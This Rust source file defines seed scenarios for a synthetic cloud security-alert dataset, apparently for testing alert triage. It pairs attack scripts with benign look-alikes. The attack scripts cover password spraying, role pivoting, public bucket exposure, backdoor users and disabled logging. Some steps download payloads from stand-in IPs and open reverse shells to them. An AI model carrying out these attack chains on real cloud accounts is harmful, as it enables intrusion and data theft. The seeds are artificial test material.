//! Hand-authored seed scenarios, two attack scripts and a set of benign
//! archetypes per alert category.
//!
//! Seeds are the substance the corpus scales from: every generated case
//! is a surface transform of one of these scripts. Attack seeds end in a
//! true-positive verdict and produce several novel findings beyond the
//! alert; benign seeds reproduce the telemetry shape that fires the same
//! alert, but leave an exonerating trail (a change ticket, an established
//! admin, a provisioned trust, a pipeline identity) for the rulebook to
//! pick up.

use crate::cloud::{
    AccessLevel, Category, EnvironmentSpec, RoleSpec, SsmCommand, UserSpec,
};
use crate::scenario::{
    ActionTemplate, ActorSpec, AttackStep, Intent, IpSlot, ObjectSlot, ResourceRef, ScenarioSpec,
    Verdict,
};

/// Alert text per category, with `{slot}` holes filled from the first
/// triggering event at execution time.
pub fn alert_template(category: Category) -> &'static str {
    match category {
        Category::BruteForce => {
            "Multiple failed console sign-in attempts detected for user {user} \
             from {source_ip}: {trigger_count} failures within the monitoring window."
        }
        Category::UnauthorizedAccess => {
            "Anomalous role assumption detected: principal from account {account} \
             assumed {role} at {time}."
        }
        Category::Misconfiguration => {
            "Public exposure alert: bucket {bucket} policy now grants anonymous \
             read access, changed at {time}."
        }
        Category::MaliciousFileExecution => {
            "Remote execution alert: instance {instance} received operator-supplied \
             commands via {document} at {time}."
        }
    }
}

/// Benign stories that legitimately fire each category's alert.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FpArchetype {
    /// An account administrator doing routine (if noisy) work.
    AdminActivity,
    /// A provisioned partner integration assuming its cross-account role.
    PartnerCrossAccount,
    /// A deployment pipeline identity on its schedule.
    CicdPipeline,
    /// A bucket made public on purpose, with a change record.
    IntentionallyPublic,
}

impl FpArchetype {
    pub fn slug(self) -> &'static str {
        match self {
            FpArchetype::AdminActivity => "admin-activity",
            FpArchetype::PartnerCrossAccount => "partner-cross-account",
            FpArchetype::CicdPipeline => "cicd-pipeline",
            FpArchetype::IntentionallyPublic => "intentionally-public",
        }
    }

    /// Which benign stories can plausibly fire each category's alert.
    pub fn for_category(category: Category) -> &'static [FpArchetype] {
        match category {
            Category::BruteForce => &[FpArchetype::AdminActivity],
            Category::UnauthorizedAccess => {
                &[FpArchetype::PartnerCrossAccount, FpArchetype::CicdPipeline]
            }
            Category::Misconfiguration => {
                &[FpArchetype::IntentionallyPublic, FpArchetype::AdminActivity]
            }
            Category::MaliciousFileExecution => {
                &[FpArchetype::CicdPipeline, FpArchetype::AdminActivity]
            }
        }
    }
}

/// The attack seeds for one category.
pub fn tp_seeds(category: Category) -> Vec<ScenarioSpec> {
    match category {
        Category::BruteForce => vec![bf_password_spray(), bf_role_pivot()],
        Category::UnauthorizedAccess => vec![ua_partner_chain(), ua_insider_pivot()],
        Category::Misconfiguration => vec![mis_forced_exposure(), mis_acl_flip()],
        Category::MaliciousFileExecution => vec![mfe_payload_chain(), mfe_automation_chain()],
    }
}

/// The benign seeds for one category, one per applicable archetype.
pub fn fp_seeds(category: Category) -> Vec<ScenarioSpec> {
    FpArchetype::for_category(category).iter().map(|a| fp_seed(category, *a)).collect()
}

/// One benign seed for a category/archetype pair.
///
/// # Panics
/// Panics when the archetype is not listed for the category; callers pick
/// from [`FpArchetype::for_category`].
pub fn fp_seed(category: Category, archetype: FpArchetype) -> ScenarioSpec {
    match (category, archetype) {
        (Category::BruteForce, FpArchetype::AdminActivity) => bf_fp_admin_lockout(),
        (Category::UnauthorizedAccess, FpArchetype::PartnerCrossAccount) => ua_fp_partner_sync(),
        (Category::UnauthorizedAccess, FpArchetype::CicdPipeline) => ua_fp_pipeline_deploy(),
        (Category::Misconfiguration, FpArchetype::IntentionallyPublic) => mis_fp_public_dataset(),
        (Category::Misconfiguration, FpArchetype::AdminActivity) => mis_fp_admin_change(),
        (Category::MaliciousFileExecution, FpArchetype::CicdPipeline) => mfe_fp_pipeline_deploy(),
        (Category::MaliciousFileExecution, FpArchetype::AdminActivity) => mfe_fp_admin_patch(),
        (cat, arch) => panic!("archetype {arch:?} is not defined for category {cat:?}"),
    }
}

/// Every seed scenario, attack and benign, in a fixed order.
pub fn all_seeds() -> Vec<ScenarioSpec> {
    let mut seeds = Vec::new();
    for category in Category::ALL {
        seeds.extend(tp_seeds(category));
        seeds.extend(fp_seeds(category));
    }
    seeds
}

/// Appends a category-typical malicious tail to a scenario, flipping its
/// implied verdict to TP while leaving the alert triggers untouched. Used
/// to make attacks that hide behind benign-looking alerts.
pub fn inject_attack(spec: &ScenarioSpec) -> ScenarioSpec {
    let start = spec.steps.iter().map(|s| s.offset_ms).max().unwrap_or(0) + 600_000;
    let tail: Vec<AttackStep> = match spec.category {
        Category::BruteForce => vec![
            mal("inj-breach", user(0), ext(1), login(0, true), start),
            mal("inj-mint-user", user(0), ext(1), create_user("svc-cache-warm"), start + 30_000),
            after(
                mal(
                    "inj-mint-key",
                    user(0),
                    ext(1),
                    ActionTemplate::CreateAccessKey { user: created("inj-mint-user") },
                    start + 60_000,
                ),
                &["inj-mint-user"],
            ),
        ],
        Category::UnauthorizedAccess => {
            let mut tail =
                vec![mal("inj-pivot", user(0), ext(1), assume(0, "telemetry-audit"), start)];
            for i in 0..EXFIL_TAIL_READS {
                tail.push(after(
                    mal(
                        &format!("inj-read-{i:02}"),
                        session("inj-pivot"),
                        ext(1),
                        get_object(0, i),
                        start + 30_000 + i as i64 * 15_000,
                    ),
                    &["inj-pivot"],
                ));
            }
            tail
        }
        Category::Misconfiguration => {
            let mut tail = vec![mal(
                "inj-expose",
                user(0),
                ext(1),
                ActionTemplate::PutBucketPolicy {
                    bucket: bucket(0),
                    public: true,
                    change_ticket: None,
                },
                start,
            )];
            for i in 0..EXFIL_TAIL_READS {
                tail.push(after(
                    mal(
                        &format!("inj-read-{i:02}"),
                        ActorSpec::Anonymous,
                        ext(2),
                        get_object(0, i),
                        start + 30_000 + i as i64 * 15_000,
                    ),
                    &["inj-expose"],
                ));
            }
            tail
        }
        Category::MaliciousFileExecution => vec![
            mal(
                "inj-drop",
                user(0),
                ext(1),
                ActionTemplate::SendCommand {
                    instance: instance(0),
                    command: SsmCommand::DownloadPayload {
                        url: "http://198.51.100.44/stage2.bin".to_string(),
                    },
                },
                start,
            ),
            after(
                mal(
                    "inj-shell",
                    user(0),
                    ext(1),
                    ActionTemplate::SendCommand {
                        instance: instance(0),
                        command: SsmCommand::ReverseShell {
                            host: "198.51.100.44".to_string(),
                            port: 4444,
                        },
                    },
                    start + 45_000,
                ),
                &["inj-drop"],
            ),
        ],
    };

    let mut out = spec.clone();
    out.scenario_id = format!("{}-inj", spec.scenario_id);
    out.steps.extend(tail);
    out.intended_verdict = Verdict::Tp;
    out
}

/// Object reads appended by [`inject_attack`]; enough to cross the
/// exfiltration rule's per-address minimum.
const EXFIL_TAIL_READS: usize = 10;

// ---- step builders -------------------------------------------------------

fn step(
    id: &str,
    actor: ActorSpec,
    ip: IpSlot,
    action: ActionTemplate,
    offset_ms: i64,
    intent: Intent,
) -> AttackStep {
    AttackStep {
        step_id: id.to_string(),
        actor,
        ip,
        action,
        offset_ms,
        depends_on: Vec::new(),
        intent,
        triggers_alert: false,
    }
}

fn mal(id: &str, actor: ActorSpec, ip: IpSlot, action: ActionTemplate, offset_ms: i64) -> AttackStep {
    step(id, actor, ip, action, offset_ms, Intent::Malicious)
}

fn ben(id: &str, actor: ActorSpec, ip: IpSlot, action: ActionTemplate, offset_ms: i64) -> AttackStep {
    step(id, actor, ip, action, offset_ms, Intent::Benign)
}

fn trigger(mut step: AttackStep) -> AttackStep {
    step.triggers_alert = true;
    step
}

fn after(mut step: AttackStep, deps: &[&str]) -> AttackStep {
    step.depends_on = deps.iter().map(|d| d.to_string()).collect();
    step
}

fn user(index: usize) -> ActorSpec {
    ActorSpec::User { index }
}

fn session(step: &str) -> ActorSpec {
    ActorSpec::Session { step: step.to_string() }
}

fn created(step: &str) -> ResourceRef {
    ResourceRef::CreatedUser { step: step.to_string() }
}

fn ext(index: usize) -> IpSlot {
    IpSlot::External { index }
}

fn int(index: usize) -> IpSlot {
    IpSlot::Internal { index }
}

fn bucket(index: usize) -> ResourceRef {
    ResourceRef::Bucket { index }
}

fn instance(index: usize) -> ResourceRef {
    ResourceRef::Instance { index }
}

fn login(user_index: usize, ok: bool) -> ActionTemplate {
    ActionTemplate::ConsoleLogin { user: ResourceRef::User { index: user_index }, password_ok: ok }
}

fn assume(role_index: usize, session_name: &str) -> ActionTemplate {
    ActionTemplate::AssumeRole {
        role: ResourceRef::Role { index: role_index },
        session_name: session_name.to_string(),
    }
}

fn create_user(name: &str) -> ActionTemplate {
    ActionTemplate::CreateUser { name: name.to_string() }
}

fn get_object(bucket_index: usize, object_index: usize) -> ActionTemplate {
    ActionTemplate::GetObject {
        bucket: bucket(bucket_index),
        object: ObjectSlot::Existing { index: object_index },
    }
}

fn list_objects(bucket_index: usize) -> ActionTemplate {
    ActionTemplate::ListObjects { bucket: bucket(bucket_index) }
}

fn spec(
    id: &str,
    category: Category,
    env_spec: EnvironmentSpec,
    steps: Vec<AttackStep>,
    verdict: Verdict,
) -> ScenarioSpec {
    ScenarioSpec {
        scenario_id: id.to_string(),
        category,
        env_spec,
        steps,
        alert_template: alert_template(category).to_string(),
        intended_verdict: verdict,
    }
}

// ---- brute force ---------------------------------------------------------

/// Password spray against an admin, then full account takeover: new user,
/// access key, console profile, admin policy, bulk object reads, and
/// finally audit logging switched off.
fn bf_password_spray() -> ScenarioSpec {
    let mut steps = Vec::new();
    for i in 0..17 {
        steps.push(trigger(mal(
            &format!("fail-{i:02}"),
            user(0),
            ext(0),
            login(0, false),
            i * 35_000,
        )));
    }
    steps.push(ben("routine-list", user(1), int(0), ActionTemplate::ListBuckets, 300_000));
    steps.push(after(mal("breach", user(0), ext(0), login(0, true), 640_000), &["fail-16"]));
    steps.push(mal("recon-users", user(0), ext(0), ActionTemplate::ListUsers, 660_000));
    steps.push(after(
        mal("mint-user", user(0), ext(0), create_user("svc-metrics-agent"), 700_000),
        &["breach"],
    ));
    steps.push(after(
        mal(
            "mint-key",
            user(0),
            ext(0),
            ActionTemplate::CreateAccessKey { user: created("mint-user") },
            720_000,
        ),
        &["mint-user"],
    ));
    steps.push(after(
        mal(
            "mint-profile",
            user(0),
            ext(0),
            ActionTemplate::CreateLoginProfile { user: created("mint-user") },
            740_000,
        ),
        &["mint-user"],
    ));
    steps.push(after(
        mal(
            "escalate",
            user(0),
            ext(0),
            ActionTemplate::AttachUserPolicy {
                user: created("mint-user"),
                policy_name: "AdministratorAccess".to_string(),
                admin: true,
            },
            770_000,
        ),
        &["mint-user"],
    ));
    steps.push(mal("enum-buckets", user(0), ext(0), ActionTemplate::ListBuckets, 800_000));
    steps.push(mal("enum-objects", user(0), ext(0), list_objects(0), 820_000));
    for i in 0..12 {
        steps.push(mal(
            &format!("read-{i:02}"),
            user(0),
            ext(0),
            get_object(0, i),
            850_000 + i as i64 * 20_000,
        ));
    }
    steps.push(mal("quiet-logs", user(0), ext(0), ActionTemplate::StopLogging, 1_100_000));

    spec(
        "bf-tp-spray",
        Category::BruteForce,
        EnvironmentSpec::defaults_for(Category::BruteForce),
        steps,
        Verdict::Tp,
    )
}

/// Shorter burst that succeeds, then pivots through a role session for
/// the data theft instead of acting as the user directly.
fn bf_role_pivot() -> ScenarioSpec {
    let mut steps = Vec::new();
    for i in 0..6 {
        steps.push(trigger(mal(
            &format!("fail-{i:02}"),
            user(0),
            ext(0),
            login(0, false),
            i * 40_000,
        )));
    }
    steps.push(ben("routine-read", user(2), int(0), get_object(0, 3), 100_000));
    steps.push(after(mal("breach", user(0), ext(0), login(0, true), 280_000), &["fail-05"]));
    steps.push(after(mal("pivot", user(0), ext(0), assume(0, "audit-sweep"), 300_000), &["breach"]));
    steps.push(after(mal("survey", session("pivot"), ext(0), ActionTemplate::ListBuckets, 330_000), &["pivot"]));
    steps.push(after(mal("survey-objects", session("pivot"), ext(0), list_objects(0), 350_000), &["pivot"]));
    for i in 0..11 {
        steps.push(after(
            mal(
                &format!("read-{i:02}"),
                session("pivot"),
                ext(0),
                get_object(0, i),
                380_000 + i as i64 * 15_000,
            ),
            &["pivot"],
        ));
    }
    steps.push(mal("quiet-logs", user(0), ext(0), ActionTemplate::StopLogging, 600_000));

    spec(
        "bf-tp-pivot",
        Category::BruteForce,
        EnvironmentSpec::defaults_for(Category::BruteForce),
        steps,
        Verdict::Tp,
    )
}

/// An administrator locks themselves out after a password rotation, then
/// gets in and carries on with routine work.
fn bf_fp_admin_lockout() -> ScenarioSpec {
    let mut steps = Vec::new();
    for i in 0..5 {
        steps.push(trigger(ben(
            &format!("fail-{i:02}"),
            user(0),
            ext(0),
            login(0, false),
            i * 25_000,
        )));
    }
    steps.push(after(ben("recover", user(0), ext(0), login(0, true), 160_000), &["fail-04"]));
    steps.push(ben("routine-list", user(0), ext(0), ActionTemplate::ListBuckets, 200_000));
    steps.push(ben(
        "routine-policy",
        user(0),
        ext(0),
        ActionTemplate::GetBucketPolicy { bucket: bucket(0) },
        230_000,
    ));

    spec(
        "bf-fp-admin-activity",
        Category::BruteForce,
        EnvironmentSpec::defaults_for(Category::BruteForce),
        steps,
        Verdict::Fp,
    )
}

// ---- unauthorized access -------------------------------------------------

/// A compromised partner integration assumes its provisioned role, then
/// chains into a second, more privileged role and drains a bucket.
fn ua_partner_chain() -> ScenarioSpec {
    let mut env = EnvironmentSpec::defaults_for(Category::UnauthorizedAccess);
    env.partner_account = true;
    env.roles[0].external_trust = true;
    env.roles.push(RoleSpec {
        name: None,
        access: AccessLevel::PowerUser,
        trusted_user_indexes: vec![],
        trusted_role_indexes: vec![0],
        external_trust: false,
    });

    let mut steps = vec![
        ben("backdrop-list", user(1), int(0), ActionTemplate::ListBuckets, 20_000),
        trigger(mal("infiltrate", ActorSpec::PartnerUser, ext(0), assume(0, "data-sync"), 60_000)),
    ];
    steps.push(after(
        mal("whoami", session("infiltrate"), ext(0), ActionTemplate::GetCallerIdentity, 90_000),
        &["infiltrate"],
    ));
    steps.push(after(
        mal("hop", session("infiltrate"), ext(0), assume(1, "sweep"), 120_000),
        &["infiltrate"],
    ));
    steps.push(after(mal("survey", session("hop"), ext(0), ActionTemplate::ListBuckets, 150_000), &["hop"]));
    steps.push(after(mal("survey-objects", session("hop"), ext(0), list_objects(0), 170_000), &["hop"]));
    for i in 0..14 {
        steps.push(after(
            mal(
                &format!("read-{i:02}"),
                session("hop"),
                ext(0),
                get_object(0, i),
                200_000 + i as i64 * 15_000,
            ),
            &["hop"],
        ));
    }

    spec("ua-tp-partner-chain", Category::UnauthorizedAccess, env, steps, Verdict::Tp)
}

/// An insider with power-user credentials assumes the audit role off
/// hours, drains a bucket, and leaves a backdoor user behind.
fn ua_insider_pivot() -> ScenarioSpec {
    let mut env = EnvironmentSpec::defaults_for(Category::UnauthorizedAccess);
    env.users[2].access = AccessLevel::PowerUser;
    env.roles[0].trusted_user_indexes = vec![0, 2];

    let mut steps = vec![
        ben("backdrop-read", user(1), int(0), get_object(0, 1), 10_000),
        trigger(mal("pivot", user(2), ext(0), assume(0, "night-audit"), 40_000)),
    ];
    steps.push(after(mal("survey", session("pivot"), ext(0), ActionTemplate::ListBuckets, 70_000), &["pivot"]));
    steps.push(after(mal("survey-objects", session("pivot"), ext(0), list_objects(1), 90_000), &["pivot"]));
    for i in 0..16 {
        steps.push(after(
            mal(
                &format!("read-{i:02}"),
                session("pivot"),
                ext(0),
                get_object(1, i),
                120_000 + i as i64 * 12_000,
            ),
            &["pivot"],
        ));
    }
    steps.push(mal("backdoor-user", user(2), ext(0), create_user("svc-ledger-sync"), 340_000));
    steps.push(after(
        mal(
            "backdoor-key",
            user(2),
            ext(0),
            ActionTemplate::CreateAccessKey { user: created("backdoor-user") },
            360_000,
        ),
        &["backdoor-user"],
    ));

    spec("ua-tp-insider-pivot", Category::UnauthorizedAccess, env, steps, Verdict::Tp)
}

/// The partner integration's scheduled sync: same role assumption the
/// alert flags, preceded by an identical run earlier in the window.
fn ua_fp_partner_sync() -> ScenarioSpec {
    let mut env = EnvironmentSpec::defaults_for(Category::UnauthorizedAccess);
    env.partner_account = true;
    env.roles[0].external_trust = true;

    let mut steps = vec![
        ben("nightly-prev", ActorSpec::PartnerUser, ext(0), assume(0, "sync-0412"), 0),
    ];
    steps.push(after(
        ben("prev-list", session("nightly-prev"), ext(0), list_objects(0), 30_000),
        &["nightly-prev"],
    ));
    steps.push(trigger(ben(
        "nightly",
        ActorSpec::PartnerUser,
        ext(0),
        assume(0, "sync-0413"),
        3_600_000,
    )));
    steps.push(after(
        ben("pull-list", session("nightly"), ext(0), list_objects(0), 3_630_000),
        &["nightly"],
    ));
    for i in 0..3 {
        steps.push(after(
            ben(
                &format!("pull-{i:02}"),
                session("nightly"),
                ext(0),
                get_object(0, i),
                3_660_000 + i as i64 * 20_000,
            ),
            &["nightly"],
        ));
    }

    spec("ua-fp-partner-cross-account", Category::UnauthorizedAccess, env, steps, Verdict::Fp)
}

/// The deployment pipeline assumes the release role on schedule.
fn ua_fp_pipeline_deploy() -> ScenarioSpec {
    let mut env = EnvironmentSpec::defaults_for(Category::UnauthorizedAccess);
    env.users.push(UserSpec {
        name: Some("cicd-release-runner".to_string()),
        access: AccessLevel::Admin,
    });
    env.roles[0].trusted_user_indexes = vec![0, 3];

    let mut steps = vec![
        ben("build-start", user(3), int(0), ActionTemplate::GetCallerIdentity, 0),
        trigger(ben("assume", user(3), int(0), assume(0, "deploy-7841"), 120_000)),
    ];
    for i in 0..2 {
        steps.push(after(
            ben(
                &format!("fetch-{i:02}"),
                session("assume"),
                int(0),
                get_object(0, i),
                150_000 + i as i64 * 20_000,
            ),
            &["assume"],
        ));
    }
    steps.push(ben(
        "upload",
        user(3),
        int(0),
        ActionTemplate::PutObject {
            bucket: bucket(1),
            key: "releases/build-7841.tar.gz".to_string(),
            size_bytes: 8_400_000,
        },
        210_000,
    ));

    spec("ua-fp-cicd-pipeline", Category::UnauthorizedAccess, env, steps, Verdict::Fp)
}

// ---- misconfiguration ----------------------------------------------------

/// An attacker flips a bucket policy public with no change record, pulls
/// data anonymously, opens SSH to the world, and kills audit logging.
fn mis_forced_exposure() -> ScenarioSpec {
    let mut steps = vec![
        mal("recon-policy", user(0), ext(0), ActionTemplate::GetBucketPolicy { bucket: bucket(0) }, 0),
        ben("backdrop-list", user(1), int(0), list_objects(1), 30_000),
    ];
    steps.push(after(
        trigger(mal(
            "expose",
            user(0),
            ext(0),
            ActionTemplate::PutBucketPolicy { bucket: bucket(0), public: true, change_ticket: None },
            60_000,
        )),
        &["recon-policy"],
    ));
    for i in 0..6 {
        steps.push(after(
            mal(
                &format!("anon-read-{i:02}"),
                ActorSpec::Anonymous,
                ext(1),
                get_object(0, i),
                120_000 + i as i64 * 30_000,
            ),
            &["expose"],
        ));
    }
    steps.push(mal(
        "open-ingress",
        user(0),
        ext(0),
        ActionTemplate::AuthorizeSecurityGroupIngress {
            group: ResourceRef::SecurityGroup { index: 0 },
            port: 22,
            cidr: "0.0.0.0/0".to_string(),
        },
        400_000,
    ));
    steps.push(mal("quiet-logs", user(0), ext(0), ActionTemplate::StopLogging, 460_000));

    spec(
        "mis-tp-forced-exposure",
        Category::Misconfiguration,
        EnvironmentSpec::defaults_for(Category::Misconfiguration),
        steps,
        Verdict::Tp,
    )
}

/// A compromised power user flips a bucket ACL public and the data is
/// bulk-read anonymously from one address.
fn mis_acl_flip() -> ScenarioSpec {
    let mut env = EnvironmentSpec::defaults_for(Category::Misconfiguration);
    env.users[1].access = AccessLevel::PowerUser;

    let mut steps = vec![trigger(mal(
        "flip-acl",
        user(1),
        ext(0),
        ActionTemplate::PutBucketAcl { bucket: bucket(1), public: true, change_ticket: None },
        0,
    ))];
    steps.push(ben("backdrop-read", user(2), int(0), get_object(0, 2), 30_000));
    for i in 0..12 {
        steps.push(after(
            mal(
                &format!("anon-read-{i:02}"),
                ActorSpec::Anonymous,
                ext(1),
                get_object(1, i),
                60_000 + i as i64 * 20_000,
            ),
            &["flip-acl"],
        ));
    }

    spec("mis-tp-acl-flip", Category::Misconfiguration, env, steps, Verdict::Tp)
}

/// A dataset is published on purpose: reviewed first, changed under a
/// ticket, and consumed anonymously as intended.
fn mis_fp_public_dataset() -> ScenarioSpec {
    let mut steps = vec![ben(
        "review",
        user(0),
        int(0),
        ActionTemplate::GetBucketPolicy { bucket: bucket(0) },
        0,
    )];
    steps.push(after(
        trigger(ben(
            "publish",
            user(0),
            int(0),
            ActionTemplate::PutBucketPolicy {
                bucket: bucket(0),
                public: true,
                change_ticket: Some("CHG-41873".to_string()),
            },
            300_000,
        )),
        &["review"],
    ));
    for i in 0..4 {
        steps.push(after(
            ben(
                &format!("consume-{i:02}"),
                ActorSpec::Anonymous,
                ext(0),
                get_object(0, i),
                600_000 + i as i64 * 60_000,
            ),
            &["publish"],
        ));
    }
    steps.push(ben(
        "verify",
        user(0),
        int(0),
        ActionTemplate::GetBucketPolicy { bucket: bucket(0) },
        900_000,
    ));

    spec(
        "mis-fp-intentionally-public",
        Category::Misconfiguration,
        EnvironmentSpec::defaults_for(Category::Misconfiguration),
        steps,
        Verdict::Fp,
    )
}

/// An administrator's ticketed policy change during a normal session.
fn mis_fp_admin_change() -> ScenarioSpec {
    let steps = vec![
        ben("morning-login", user(0), int(0), login(0, true), 0),
        ben("review", user(0), int(0), ActionTemplate::GetBucketPolicy { bucket: bucket(1) }, 120_000),
        trigger(ben(
            "publish",
            user(0),
            int(0),
            ActionTemplate::PutBucketPolicy {
                bucket: bucket(1),
                public: true,
                change_ticket: Some("CHG-58012".to_string()),
            },
            240_000,
        )),
    ];

    spec(
        "mis-fp-admin-activity",
        Category::Misconfiguration,
        EnvironmentSpec::defaults_for(Category::Misconfiguration),
        steps,
        Verdict::Fp,
    )
}

// ---- malicious file execution --------------------------------------------

/// Remote command abuse: payload download, reverse shell, persistence
/// hook, plus an ingress hole and a stopped workload for cover.
fn mfe_payload_chain() -> ScenarioSpec {
    let steps = vec![
        ben("backdrop-inventory", user(2), int(0), ActionTemplate::DescribeInstances, 20_000),
        mal("recon", user(0), ext(0), ActionTemplate::DescribeInstances, 40_000),
        mal(
            "open-port",
            user(0),
            ext(0),
            ActionTemplate::AuthorizeSecurityGroupIngress {
                group: ResourceRef::SecurityGroup { index: 0 },
                port: 4444,
                cidr: "0.0.0.0/0".to_string(),
            },
            90_000,
        ),
        trigger(mal(
            "drop",
            user(0),
            ext(0),
            ActionTemplate::SendCommand {
                instance: instance(0),
                command: SsmCommand::DownloadPayload {
                    url: "http://203.0.113.66/updater.bin".to_string(),
                },
            },
            150_000,
        )),
        after(
            mal(
                "shell",
                user(0),
                ext(0),
                ActionTemplate::SendCommand {
                    instance: instance(0),
                    command: SsmCommand::ReverseShell {
                        host: "203.0.113.66".to_string(),
                        port: 4444,
                    },
                },
                210_000,
            ),
            &["drop"],
        ),
        after(
            mal(
                "dig-in",
                user(0),
                ext(0),
                ActionTemplate::SendCommand {
                    instance: instance(0),
                    command: SsmCommand::InstallPersistence {
                        mechanism: "crontab entry".to_string(),
                    },
                },
                270_000,
            ),
            &["shell"],
        ),
        mal("cover", user(0), ext(0), ActionTemplate::StopInstances { instance: instance(1) }, 330_000),
    ];

    spec(
        "mfe-tp-payload-chain",
        Category::MaliciousFileExecution,
        EnvironmentSpec::defaults_for(Category::MaliciousFileExecution),
        steps,
        Verdict::Tp,
    )
}

/// Same playbook through the automation endpoint, ending in a terminated
/// instance instead of a persistence hook.
fn mfe_automation_chain() -> ScenarioSpec {
    let steps = vec![
        mal("recon", user(0), ext(0), ActionTemplate::DescribeInstances, 0),
        trigger(mal(
            "stage",
            user(0),
            ext(0),
            ActionTemplate::StartAutomationExecution {
                instance: instance(1),
                command: SsmCommand::DownloadPayload {
                    url: "http://203.0.113.91/agent-update.sh".to_string(),
                },
            },
            60_000,
        )),
        after(
            mal(
                "shell",
                user(0),
                ext(0),
                ActionTemplate::StartAutomationExecution {
                    instance: instance(1),
                    command: SsmCommand::ReverseShell {
                        host: "203.0.113.91".to_string(),
                        port: 8443,
                    },
                },
                130_000,
            ),
            &["stage"],
        ),
        mal("wipe", user(0), ext(0), ActionTemplate::TerminateInstances { instance: instance(0) }, 200_000),
    ];

    spec(
        "mfe-tp-automation-chain",
        Category::MaliciousFileExecution,
        EnvironmentSpec::defaults_for(Category::MaliciousFileExecution),
        steps,
        Verdict::Tp,
    )
}

/// The deployment pipeline pushes a rollout script to a fleet member.
fn mfe_fp_pipeline_deploy() -> ScenarioSpec {
    let mut env = EnvironmentSpec::defaults_for(Category::MaliciousFileExecution);
    env.users.push(UserSpec {
        name: Some("cicd-release-runner".to_string()),
        access: AccessLevel::Admin,
    });

    let steps = vec![
        ben("pipeline-auth", user(3), int(0), ActionTemplate::GetCallerIdentity, 0),
        ben("inventory", user(3), int(0), ActionTemplate::DescribeInstances, 60_000),
        trigger(ben(
            "deploy",
            user(3),
            int(0),
            ActionTemplate::SendCommand {
                instance: instance(0),
                command: SsmCommand::RunScript { name: "deploy-rollout.sh".to_string() },
            },
            120_000,
        )),
        ben("post-check", user(3), int(0), ActionTemplate::DescribeInstances, 200_000),
    ];

    spec("mfe-fp-cicd-pipeline", Category::MaliciousFileExecution, env, steps, Verdict::Fp)
}

/// An administrator applies a kernel patch over the same channel an
/// attacker would use, then stops the patched host for its reboot window.
fn mfe_fp_admin_patch() -> ScenarioSpec {
    let steps = vec![
        ben("ops-login", user(0), int(0), login(0, true), 0),
        ben("inventory", user(0), int(0), ActionTemplate::DescribeInstances, 60_000),
        trigger(ben(
            "patch",
            user(0),
            int(0),
            ActionTemplate::SendCommand {
                instance: instance(1),
                command: SsmCommand::RunScript { name: "apply-kernel-patch.sh".to_string() },
            },
            150_000,
        )),
        ben("maintenance-stop", user(0), int(0), ActionTemplate::StopInstances { instance: instance(1) }, 400_000),
    ];

    spec(
        "mfe-fp-admin-activity",
        Category::MaliciousFileExecution,
        EnvironmentSpec::defaults_for(Category::MaliciousFileExecution),
        steps,
        Verdict::Fp,
    )
}
